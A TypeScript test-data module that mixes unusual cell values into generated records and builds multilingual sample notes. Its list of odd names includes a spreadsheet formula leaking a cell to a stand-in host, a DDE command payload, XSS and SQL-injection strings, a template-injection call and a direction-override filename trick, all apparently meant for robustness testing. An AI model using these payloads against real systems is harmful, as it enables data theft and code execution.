import { pick, type Random } from '../../random.ts'

/**
 * Texts that people really paste into cells and that break careless programs: formulas for spreadsheets,
 * markup, right-to-left and mixed scripts, control of direction, joined emoji, quotes, lines, blanks.
 */
const ODD_NAMES = [
  '=HYPERLINK("http://collector.example/?"&A1,"Open invoice")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+49 30 1234 – call back',
  '-1+1',
  '<img src=x onerror=alert(1)>',
  '</td><script>alert("cell")</script>',
  'مشروع الميناء الجديد',
  'פגישה עם הספק – 3:00',
  '\u202Egnp.eciovni',
  '👩🏽‍🚀 Launch 🚀 party 🎉',
  'O’Brien & Søns, "Ltd."; DROP TABLE records;--',
  'Untitled',
  'line one\nline two\ttabbed',
  'Zażółć gęślą jaźń · 東京 · Ελλάδα',
  'null',
  '{{constructor.constructor("return 1")()}}',
] as const

/** Every so many records get an odd name instead of the usual one, each of them in turn. */
const EVERY = 41
const FIRST = 7

export function oddOr(index: number, usual: string): string {
  const odd = ODD_NAMES[Math.floor(index / EVERY) % ODD_NAMES.length]
  return index % EVERY === FIRST && odd !== undefined ? odd : usual
}

const SENTENCES = [
  'Asked for a sample before the end of the quarter.',
  'The **harbour office** confirmed by phone; see the [thread](https://example.com/thread/1).',
  'Blocked until the customs papers arrive. ⚓',
  'Prefers e-mail. Do not call before ten.',
  'Er bittet um ein neues Angebot über 1.200 €.',
  '見積書を再送してください。',
  'يرجى تأكيد الموعد قبل يوم الخميس.',
  '- [ ] send contract\n- [x] agree on the price',
  'Price was fine, delivery time was not.',
  '=1+1 is what the sheet showed, we meant two.',
]

/** A note of a few sentences; now and then a very long one, of about 20,000 characters. */
export function noteFor(index: number, random: Random): string | undefined {
  const isLong = index % 211 === 100
  if (random() < 0.3 && !isLong) return undefined
  const sentences = isLong ? 400 : 1 + Math.floor(random() * 4)
  return Array.from({ length: sentences }, () => pick(random, SENTENCES)).join(sentences > 4 ? '\n\n' : ' ')
}
